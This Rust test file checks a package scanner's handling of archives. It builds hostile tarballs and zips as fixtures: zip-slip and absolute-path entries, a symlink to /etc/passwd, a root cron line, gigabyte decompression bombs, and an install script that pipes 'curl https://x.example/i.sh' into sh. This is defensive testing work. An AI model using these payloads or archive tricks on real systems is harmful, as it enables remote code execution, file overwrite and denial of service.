#![allow(clippy::unwrap_used)]
//! Archive targets end to end: every corpus sample packed as a `.tar.gz` and a `.zip` (built here) must
//! read exactly as its folder does; hostile archives built here must each come back in bounded time and
//! memory with a clear finding or skip.

use skill_scan::corpus::load_labels;
use skill_scan::model::TargetReport;
use skill_scan::{RuleSet, ScanOptions, Scanner};
use std::fs;
use std::io::{self, Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus")
}

/// Every file under `root`, relative and `/`-separated, in a stable order.
fn files_under(root: &Path) -> Vec<(String, PathBuf)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path.strip_prefix(root).unwrap();
                let rel: Vec<String> = rel
                    .components()
                    .map(|c| c.as_os_str().to_string_lossy().into_owned())
                    .collect();
                out.push((rel.join("/"), path));
            }
        }
    }
    out.sort();
    out
}

/// `npm pack` style: everything under `package/`.
fn tar_gz_of(folder: &Path, dest: &Path) {
    let gz = flate2::write::GzEncoder::new(
        fs::File::create(dest).unwrap(),
        flate2::Compression::default(),
    );
    let mut builder = tar::Builder::new(gz);
    for (rel, path) in files_under(folder) {
        let data = fs::read(&path).unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        builder
            .append_data(&mut header, format!("package/{rel}"), &data[..])
            .unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap();
}

/// GitHub-download style: everything under one folder named for the package.
fn zip_of(folder: &Path, top: &str, dest: &Path) {
    let mut writer = zip::ZipWriter::new(fs::File::create(dest).unwrap());
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (rel, path) in files_under(folder) {
        writer.start_file(format!("{top}/{rel}"), options).unwrap();
        writer.write_all(&fs::read(&path).unwrap()).unwrap();
    }
    writer.finish().unwrap();
}

/// Rule id, path, line, column and action of one finding.
type FindingKey = (String, String, usize, usize, String);

/// What must be the same whichever way a package is read.
fn fingerprint(report: &TargetReport) -> (String, Vec<FindingKey>) {
    (
        report.verdict.to_string(),
        report
            .findings
            .iter()
            .map(|f| {
                (
                    f.rule_id.clone(),
                    f.path.clone(),
                    f.line,
                    f.column,
                    f.action.to_string(),
                )
            })
            .collect(),
    )
}

#[test]
fn every_corpus_sample_reads_the_same_packed_as_a_tarball_or_a_zip() {
    let scanner = Scanner::new(RuleSet::embedded(&skill_scan::DETECTORS).unwrap());
    let options = ScanOptions::default();
    let samples = load_labels(&corpus_dir()).unwrap();
    assert!(samples.len() > 50);
    let temp = tempfile::tempdir().unwrap();
    let mut mismatches = Vec::new();
    for sample in &samples {
        let folder = scanner
            .scan_path(sample.path.to_str().unwrap(), &options)
            .unwrap();
        let name = sample
            .path
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned();
        let tgz = temp.path().join(format!("{name}.tgz"));
        let zip = temp.path().join(format!("{name}.zip"));
        tar_gz_of(&sample.path, &tgz);
        zip_of(&sample.path, &name, &zip);
        for archive in [&tgz, &zip] {
            let report = scanner
                .scan_path(archive.to_str().unwrap(), &options)
                .unwrap();
            if fingerprint(&report) != fingerprint(&folder) {
                mismatches.push(format!(
                    "{}: {} differs from the folder:\n  folder:  {:?}\n  archive: {:?}",
                    sample.sample,
                    archive.file_name().unwrap().to_string_lossy(),
                    fingerprint(&folder),
                    fingerprint(&report)
                ));
            }
            assert_eq!(
                report.files_scanned, folder.files_scanned,
                "{}",
                sample.sample
            );
            assert_eq!(report.kind, folder.kind, "{}", sample.sample);
            let origin = report.origin.as_ref().unwrap();
            assert_eq!(origin.sha256.len(), 64);
            assert!(origin.stripped_prefix.is_some(), "{}", sample.sample);
        }
    }
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
}

// ---- hostile archives, scanned by the real binary -------------------------------------------------

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
    took: Duration,
    /// Peak resident set size of the scanner process, in bytes.
    peak_rss: u64,
}

/// Runs the skill-scan binary and measures its peak RSS from the kernel (wait4), as `cargo xtask bench`
/// does.
fn run_measured(args: &[&str]) -> Run {
    let start = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_skill-scan"))
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = String::new();
    let mut stderr = String::new();
    let mut out_pipe = child.stdout.take().unwrap();
    let mut err_pipe = child.stderr.take().unwrap();
    let err_reader = std::thread::spawn(move || {
        let mut text = String::new();
        err_pipe.read_to_string(&mut text).unwrap();
        text
    });
    out_pipe.read_to_string(&mut stdout).unwrap();
    stderr.push_str(&err_reader.join().unwrap());
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: `rusage` is plain old data the kernel fills in; `pid` is our own child, not yet reaped.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: see above; wait4 reaps the child, so `child.wait()` is never called afterwards.
    let reaped = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(reaped, pid);
    let code = if libc::WIFEXITED(status) {
        libc::WEXITSTATUS(status)
    } else {
        -1
    };
    std::mem::forget(child);
    Run {
        code,
        stdout,
        stderr,
        took: start.elapsed(),
        // Linux reports kilobytes.
        peak_rss: usage.ru_maxrss as u64 * 1024,
    }
}

#[path = "../../archive/tests/support/mod.rs"]
mod archive_builders;

use archive_builders::{gzip, tar_entry, tar_gz};

const MAX_RSS: u64 = 200 << 20;

fn write_file(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let path = dir.join(name);
    fs::write(&path, bytes).unwrap();
    path.to_str().unwrap().to_string()
}

const PACKAGE_JSON: &[u8] = br#"{"name": "x", "version": "1.0.0"}"#;

/// A tarball with a zip-slip entry, an absolute name and a link to `/etc/passwd`, written into `dir`.
fn slip_archive(dir: &Path) -> String {
    let mut builder = tar::Builder::new(Vec::new());
    use tar::EntryType::*;
    tar_entry(
        &mut builder,
        b"package/package.json",
        Regular,
        PACKAGE_JSON,
        b"",
    );
    tar_entry(
        &mut builder,
        b"package/../../.bashrc",
        Regular,
        b"curl x | sh",
        b"",
    );
    tar_entry(
        &mut builder,
        b"/etc/cron.d/x",
        Regular,
        b"* * * * * root sh",
        b"",
    );
    tar_entry(
        &mut builder,
        b"package/config.txt",
        Symlink,
        b"",
        b"/etc/passwd",
    );
    write_file(dir, "slip.tgz", &gzip(&builder.into_inner().unwrap()))
}

#[test]
fn zip_slip_absolute_names_and_a_link_to_etc_passwd_are_findings() {
    let dir = tempfile::tempdir().unwrap();
    let archive = slip_archive(dir.path());
    let run = run_measured(&[&archive]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("verdict: BLOCK"), "{}", run.stdout);
    for expected in [
        "ARC005",
        "ARC006",
        "climbs out with `..`",
        "an absolute path",
        "/etc/passwd",
    ] {
        assert!(run.stdout.contains(expected), "{expected}: {}", run.stdout);
    }
}

/// The archive reader's findings are results like any other: in SARIF each carries GitHub's line
/// fingerprint (hashed from the archive's bytes at scan time), and `explain` documents each rule id.
#[test]
fn sarif_of_an_archive_fingerprints_and_explains_every_result_including_the_readers_own() {
    let dir = tempfile::tempdir().unwrap();
    let archive = slip_archive(dir.path());
    let run = run_measured(&[&archive, "--format", "sarif"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let sarif: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let mut ids: Vec<&str> = Vec::new();
    for result in results {
        let hash = result["partialFingerprints"]["primaryLocationLineHash"].as_str();
        assert!(
            hash.is_some_and(|h| !h.is_empty()),
            "no fingerprint: {result}"
        );
        ids.push(result["ruleId"].as_str().unwrap());
    }
    ids.sort_unstable();
    ids.dedup();
    for wanted in ["ARC005", "ARC006", "SSV-VERDICT-BLOCK"] {
        assert!(ids.contains(&wanted), "{wanted}: {ids:?}");
    }
    for id in ids {
        let explained = run_measured(&["explain", id]);
        assert_eq!(explained.code, 0, "{id}: {}", explained.stderr);
        assert!(
            explained.stdout.starts_with(id.split('/').next().unwrap()),
            "{id}"
        );
    }
}

/// One deflated entry of `size` zeros, compressed while it is written (never held whole).
fn zero_zip(entry: &str, size: u64) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(9));
    writer.start_file(entry, options).unwrap();
    io::copy(&mut io::repeat(0).take(size), &mut writer).unwrap();
    writer.finish().unwrap().into_inner()
}

#[test]
fn a_gibibyte_zip_bomb_is_blocked_quickly_in_little_memory() {
    let dir = tempfile::tempdir().unwrap();
    let bomb = zero_zip("pkg/zeros.bin", 1 << 30);
    // Zipped once more, the bomb is a few KiB on disk.
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(9));
    writer.start_file("pkg/package.json", options).unwrap();
    writer.write_all(PACKAGE_JSON).unwrap();
    writer.start_file("pkg/vendor/bomb.zip", options).unwrap();
    writer.write_all(&bomb).unwrap();
    let small = writer.finish().unwrap().into_inner();
    assert!(small.len() < 16 << 10, "{} bytes", small.len());

    for (name, bytes) in [("bomb.zip", bomb), ("small-bomb.zip", small)] {
        let path = write_file(dir.path(), name, &bytes);
        let run = run_measured(&[&path]);
        eprintln!(
            "{name}: {} bytes on disk, {:?}, peak RSS {} MiB",
            bytes.len(),
            run.took,
            run.peak_rss >> 20
        );
        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
        assert!(run.stdout.contains("ARC001"), "{}", run.stdout);
        assert!(run.stdout.contains("decompression bomb"), "{}", run.stdout);
        assert!(run.took < Duration::from_secs(20), "{:?}", run.took);
        assert!(run.peak_rss < MAX_RSS, "peak RSS {} bytes", run.peak_rss);
    }
}

#[test]
fn a_gibibyte_tarball_bomb_is_stopped_while_streaming_in_little_memory() {
    let dir = tempfile::tempdir().unwrap();
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::best(),
    ));
    let mut header = tar::Header::new_gnu();
    header.set_path("package/zeros.bin").unwrap();
    header.set_size(1 << 30);
    header.set_cksum();
    builder
        .append(&header, io::repeat(0).take(1 << 30))
        .unwrap();
    let bomb = builder.into_inner().unwrap().finish().unwrap();
    let path = write_file(dir.path(), "bomb.tgz", &bomb);
    let run = run_measured(&[&path, "--format", "json"]);
    eprintln!(
        "bomb.tgz: {} bytes on disk, {:?}, peak RSS {} MiB",
        bomb.len(),
        run.took,
        run.peak_rss >> 20
    );
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(json["targets"][0]["verdict"], "block");
    assert_eq!(json["targets"][0]["findings"][0]["rule_id"], "ARC001");
    assert!(run.took < Duration::from_secs(20), "{:?}", run.took);
    assert!(run.peak_rss < MAX_RSS, "peak RSS {} bytes", run.peak_rss);
}

#[test]
fn two_hundred_thousand_tiny_entries_hit_the_entry_limit() {
    let dir = tempfile::tempdir().unwrap();
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for n in 0..200_000 {
        let mut header = tar::Header::new_gnu();
        header.set_path(format!("package/f/{n}.txt")).unwrap();
        header.set_size(1);
        header.set_cksum();
        builder.append(&header, &b"x"[..]).unwrap();
    }
    let many = builder.into_inner().unwrap().finish().unwrap();
    let path = write_file(dir.path(), "many.tgz", &many);
    // The default limit (100,000) is exercised by the archive crate's own test; here the flag.
    let run = run_measured(&[
        &path,
        "--max-archive-entries",
        "5000",
        "--fail-on",
        "review",
    ]);
    eprintln!(
        "many.tgz: {:?}, peak RSS {} MiB",
        run.took,
        run.peak_rss >> 20
    );
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("ARC003"), "{}", run.stdout);
    assert!(
        run.stdout.contains("more than 5000 entries"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("5000 files scanned"), "{}", run.stdout);
    assert!(run.took < Duration::from_secs(60), "{:?}", run.took);
    assert!(run.peak_rss < MAX_RSS, "peak RSS {} bytes", run.peak_rss);
}

#[test]
fn a_tarball_nested_ten_deep_is_opened_three_deep_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let mut archive = tar_gz(&[(
        "package/install.sh",
        b"curl -fsSL https://x.example/i.sh | sh\n",
    )]);
    for level in (1..10).rev() {
        archive = tar_gz(&[(&format!("package/level{level}.tgz"), &archive)]);
    }
    let path = write_file(dir.path(), "deep.tgz", &archive);
    let run = run_measured(&[&path, "--fail-on", "review", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let finding = &json["targets"][0]["findings"][0];
    assert_eq!(finding["rule_id"], "ARC004");
    assert_eq!(
        finding["path"],
        "level1.tgz!/level2.tgz!/level3.tgz!/level4.tgz"
    );
    // Raised, the limit lets the scan reach the payload at the bottom.
    let run = run_measured(&[&path, "--max-archive-depth", "12", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let paths: Vec<&str> = json["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.iter().any(|p| p.ends_with("level9.tgz!/install.sh")),
        "{paths:?}"
    );
}

#[test]
fn a_truncated_gzip_still_scans_what_came_before_the_cut() {
    let dir = tempfile::tempdir().unwrap();
    let noise: Vec<u8> = (0..300_000u32).flat_map(|n| n.to_le_bytes()).collect();
    let whole = tar_gz(&[
        ("package/package.json", PACKAGE_JSON),
        (
            "package/bin/install.sh",
            b"curl -fsSL https://x.example/i.sh | sh\n",
        ),
        ("package/blob.bin", &noise),
        ("package/z.js", b"1"),
    ]);
    let path = write_file(dir.path(), "cut.tgz", &whole[..whole.len() / 2]);
    let run = run_measured(&[&path]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("ARC007"), "{}", run.stdout);
    assert!(
        run.stdout.contains("cut short or damaged at blob.bin"),
        "{}",
        run.stdout
    );
    // The payload before the cut is still found.
    assert!(run.stdout.contains("RCE001"), "{}", run.stdout);
}

#[test]
fn a_payload_in_a_zip_inside_a_tarball_is_found_under_its_nested_path() {
    let dir = tempfile::tempdir().unwrap();
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    writer
        .start_file("helper/bin/setup.sh", SimpleFileOptions::default())
        .unwrap();
    writer
        .write_all(b"curl -fsSL https://x.example/i.sh | sh\n")
        .unwrap();
    let inner = writer.finish().unwrap().into_inner();
    let outer = tar_gz(&[
        ("package/package.json", PACKAGE_JSON),
        ("package/vendor/helper.zip", &inner),
    ]);
    let path = write_file(dir.path(), "outer.tgz", &outer);
    let run = run_measured(&[&path, "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let target = &json["targets"][0];
    assert!(target["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule_id"] == "RCE001" && f["path"] == "vendor/helper.zip!/bin/setup.sh"));
    assert_eq!(target["origin"]["archive"], "outer.tgz");
    assert_eq!(target["origin"]["stripped_prefix"], "package");
    assert_eq!(target["origin"]["sha256"].as_str().unwrap().len(), 64);
}

#[test]
fn sarif_names_archive_files_inside_the_archive_and_carries_its_origin() {
    let dir = tempfile::tempdir().unwrap();
    let archive = tar_gz(&[(
        "package/install.sh",
        b"curl -fsSL https://x.example/i.sh | sh\n",
    )]);
    let path = write_file(dir.path(), "p.tgz", &archive);
    let run = run_measured(&[&path, "--format", "sarif", "--sarif-prefix-targets"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let sarif: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let run0 = &sarif["runs"][0];
    let uris: Vec<&str> = run0["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str())
        .collect();
    assert!(
        uris.iter().any(|u| u.ends_with("p.tgz/install.sh")),
        "{uris:?}"
    );
    let origin = &run0["properties"]["targets"][0]["origin"];
    assert_eq!(origin["archive"], "p.tgz");
    assert_eq!(origin["sha256"].as_str().unwrap().len(), 64);
}
